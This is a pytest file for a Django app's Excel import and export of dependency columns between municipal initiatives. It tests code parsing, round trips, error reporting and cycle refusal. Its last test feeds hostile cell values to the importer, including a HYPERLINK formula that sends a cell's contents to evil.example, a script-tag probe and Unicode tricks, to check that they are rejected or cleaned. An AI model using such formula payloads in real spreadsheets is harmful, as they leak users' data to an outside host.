"""The Excel columns "Heeft resultaat nodig van (codes)" and "Samen met (codes)" (decision 0404):
round trip, all or nothing, the error on the row and column, naming the code."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from koersvast.portfolio.choices import DependencyKind as K
from koersvast.portfolio.models import Dependency, Initiative
from koersvast.spreadsheets.dependencies import parse_codes
from koersvast.tenancy.choices import Role
from tests.factories import DomainFactory, InitiativeFactory

from .test_spreadsheets_import import run, xlsx

pytestmark = pytest.mark.django_db

NEEDS = "Heeft resultaat nodig van (codes)"
TOGETHER = "Samen met (codes)"
HEADER = ["Kenmerk", "Titel", "Domein", "Na (codes)", NEEDS, TOGETHER]


@pytest.fixture
def manager(personas):
    return personas[Role.PORTFOLIO_MANAGER]


@pytest.fixture
def domain(municipality):
    return DomainFactory(municipality=municipality, name="Ruimte")


def _deps() -> set[tuple[str, str, str, int]]:
    return set(
        Dependency.objects.values_list(
            "predecessor__reference", "successor__reference", "kind", "lag_quarters"
        )
    )


def _three(municipality, domain):
    return [
        InitiativeFactory(municipality=municipality, reference=f"KV-00{n}", domain=domain)
        for n in (1, 2, 3)
    ]


def test_parse_codes_refuses_a_wachttijd_and_unreadable_text():
    assert parse_codes("KV-014; KV-020\nKV-021") == [("KV-014", 0), ("KV-020", 0), ("KV-021", 0)]
    assert parse_codes("  ") == []
    with pytest.raises(ValueError, match="wachttijd"):
        parse_codes("KV-014+2")
    with pytest.raises(ValueError, match="Onleesbaar"):
        parse_codes("KV-014 en KV-015")


def test_import_sets_needs_result_and_start_together(municipality, manager, domain):
    _three(municipality, domain)
    content = xlsx(
        [
            HEADER,
            ["KV-002", "Tweede", "Ruimte", "", "KV-001", ""],
            ["KV-003", "Derde", "Ruimte", "", "", "KV-002"],
            ["KV-004", "Vierde", "Ruimte", "KV-001+1", "", "KV-003"],
        ]
    )
    report = run(municipality, manager, content)
    assert report.ok, report.issues
    assert _deps() == {
        ("KV-001", "KV-002", K.NEEDS_RESULT, 0),
        ("KV-002", "KV-003", K.START_TOGETHER, 0),
        ("KV-001", "KV-004", K.FINISH_TO_START, 1),
        ("KV-003", "KV-004", K.START_TOGETHER, 0),
    }


def test_export_and_re_import_round_trip_every_kind(municipality, manager, domain, pm_client):
    a, b, c = _three(municipality, domain)
    Dependency.objects.create(municipality=municipality, predecessor=a, successor=b, lag_quarters=2)
    Dependency.objects.create(
        municipality=municipality, predecessor=a, successor=c, kind=K.NEEDS_RESULT
    )
    Dependency.objects.create(
        municipality=municipality, predecessor=b, successor=c, kind=K.START_TOGETHER
    )
    content = pm_client.get(reverse("spreadsheets:export_portfolio")).content
    rows = list(load_workbook(BytesIO(content)).active.iter_rows(values_only=True))
    header = list(rows[0])
    cells = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert cells["KV-003"][NEEDS] == "KV-001"
    # Start-together is shown on both rows.
    assert cells["KV-002"][TOGETHER] == "KV-003"
    assert cells["KV-003"][TOGETHER] == "KV-002"
    assert not cells["KV-001"][TOGETHER]
    before = _deps()
    report = run(municipality, manager, content)
    assert report.ok, report.issues
    assert _deps() == before


def test_an_emptied_cell_removes_and_a_moved_pair_changes_kind(municipality, manager, domain):
    a, b, c = _three(municipality, domain)
    Dependency.objects.create(
        municipality=municipality, predecessor=a, successor=b, kind=K.NEEDS_RESULT
    )
    Dependency.objects.create(
        municipality=municipality, predecessor=b, successor=c, kind=K.START_TOGETHER
    )
    content = xlsx(
        [
            HEADER,
            ["KV-001", "Eerste", "Ruimte", "", "", ""],
            # The needs-result pair moves to start-together.
            ["KV-002", "Tweede", "Ruimte", "", "", "KV-001"],
            # Start-together with KV-002: both cells empty, so the pair goes.
            ["KV-003", "Derde", "Ruimte", "", "", ""],
        ]
    )
    report = run(municipality, manager, content)
    assert report.ok, report.issues
    assert _deps() == {("KV-001", "KV-002", K.START_TOGETHER, 0)}


def test_start_together_stays_while_one_row_names_it(municipality, manager, domain):
    a, b, _c = _three(municipality, domain)
    Dependency.objects.create(
        municipality=municipality, predecessor=a, successor=b, kind=K.START_TOGETHER
    )
    content = xlsx(
        [
            HEADER,
            ["KV-001", "Eerste", "Ruimte", "", "", ""],
            ["KV-002", "Tweede", "Ruimte", "", "", "KV-001"],
        ]
    )
    assert run(municipality, manager, content).ok
    assert _deps() == {("KV-001", "KV-002", K.START_TOGETHER, 0)}


def test_a_sheet_without_the_new_columns_leaves_those_kinds_alone(municipality, manager, domain):
    a, b, c = _three(municipality, domain)
    Dependency.objects.create(
        municipality=municipality, predecessor=a, successor=b, kind=K.NEEDS_RESULT
    )
    Dependency.objects.create(
        municipality=municipality, predecessor=b, successor=c, kind=K.START_TOGETHER
    )
    content = xlsx(
        [["Kenmerk", "Titel", "Domein", "Na (codes)"], ["KV-003", "Derde", "Ruimte", "KV-001"]]
    )
    report = run(municipality, manager, content)
    assert report.ok, report.issues
    assert _deps() == {
        ("KV-001", "KV-002", K.NEEDS_RESULT, 0),
        ("KV-002", "KV-003", K.START_TOGETHER, 0),
        ("KV-001", "KV-003", K.FINISH_TO_START, 0),
    }


@pytest.mark.parametrize(
    ("row", "column", "value", "message"),
    [
        (["KV-002", "Tweede", "Ruimte", "", "KV-999", ""], NEEDS, "KV-999", "Onbekend kenmerk"),
        (["KV-002", "Tweede", "Ruimte", "", "", "KV-998"], TOGETHER, "KV-998", "Onbekend kenmerk"),
        (["KV-002", "Tweede", "Ruimte", "", "KV-002", ""], NEEDS, "KV-002", "van zichzelf"),
        (["KV-002", "Tweede", "Ruimte", "", "", "KV-002"], TOGETHER, "KV-002", "van zichzelf"),
        (
            ["KV-002", "Tweede", "Ruimte", "", "KV-001", "KV-001"],
            TOGETHER,
            "KV-001",
            "twee kolommen",
        ),
        (["KV-002", "Tweede", "Ruimte", "", "KV-001+2", ""], NEEDS, "KV-001+2", "wachttijd"),
    ],
)
def test_bad_codes_name_the_row_and_column_and_write_nothing(
    municipality, manager, domain, row, column, value, message
):
    _three(municipality, domain)
    content = xlsx([HEADER, ["KV-009", "Nieuw", "Ruimte", "", "", ""], row])
    report = run(municipality, manager, content)
    assert not report.applied
    [issue] = report.issues
    assert issue.row == 3 and column in issue.column, issue
    assert value in issue.value and message in issue.message, issue
    assert not Dependency.objects.exists()
    assert not Initiative.objects.filter(reference="KV-009").exists()


def test_a_pair_with_a_recorded_dependency_the_sheet_leaves_alone_is_refused(
    municipality, manager, domain
):
    a, b, _c = _three(municipality, domain)
    Dependency.objects.create(
        municipality=municipality, predecessor=a, successor=b, kind=K.NEEDS_RESULT
    )
    content = xlsx(
        [["Kenmerk", "Titel", "Domein", TOGETHER], ["KV-002", "Tweede", "Ruimte", "KV-001"]]
    )
    report = run(municipality, manager, content)
    assert not report.applied
    [issue] = report.issues
    assert issue.row == 2 and TOGETHER in issue.column
    assert "bestaat al" in issue.message and "heeft het resultaat nodig van" in issue.message
    assert _deps() == {("KV-001", "KV-002", K.NEEDS_RESULT, 0)}


def test_cycles_through_the_new_kinds_are_refused(municipality, manager, domain):
    a, b, _c = _three(municipality, domain)
    # Recorded: KV-002 starts after KV-001.
    Dependency.objects.create(municipality=municipality, predecessor=a, successor=b)
    content = xlsx(
        [
            HEADER,
            # KV-003 needs KV-002's result, and KV-001 starts together with KV-003: a cycle.
            ["KV-003", "Derde", "Ruimte", "", "KV-002", ""],
            ["KV-001", "Eerste", "Ruimte", "", "", "KV-003"],
        ]
    )
    report = run(municipality, manager, content)
    assert not report.applied
    [issue] = report.issues
    assert "kring" in issue.message and "KV-001" in issue.message and "KV-003" in issue.message
    assert NEEDS in issue.column or TOGETHER in issue.column
    assert _deps() == {("KV-001", "KV-002", K.FINISH_TO_START, 0)}


def test_needs_result_cycle_names_the_row_that_waits(municipality, manager, domain):
    _three(municipality, domain)
    content = xlsx(
        [
            HEADER,
            ["KV-001", "Eerste", "Ruimte", "", "KV-002", ""],
            ["KV-002", "Tweede", "Ruimte", "", "KV-001", ""],
        ]
    )
    report = run(municipality, manager, content)
    assert not report.applied
    assert report.issues and all(NEEDS in i.column for i in report.issues)
    assert any("kring" in i.message for i in report.issues)
    assert not Dependency.objects.exists()


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?d="&C2,"klik")',
        "=1+1",
        "<script>alert(1)</script>",
        "KV-001\u200b",  # zero-width space (openpyxl refuses XML control characters)
        "KV-001\u202e",
        "x" * 5000,
    ],
)
def test_hostile_text_in_the_new_columns_is_an_error_or_cleaned(
    municipality, manager, domain, hostile
):
    _three(municipality, domain)
    for column in (NEEDS, TOGETHER):
        content = xlsx(
            [["Kenmerk", "Titel", "Domein", column], ["KV-003", "Derde", "Ruimte", hostile]]
        )
        report = run(municipality, manager, content)
        if report.applied:
            # Only what cleaning turns into a real reference is written.
            assert set(Dependency.objects.values_list("predecessor__reference", flat=True)) == {
                "KV-001"
            }
            Dependency.objects.all().delete()
        else:
            assert report.issues and all(i.row == 2 for i in report.issues)
            assert all(len(i.value) <= 100 for i in report.issues)
            assert not Dependency.objects.exists()
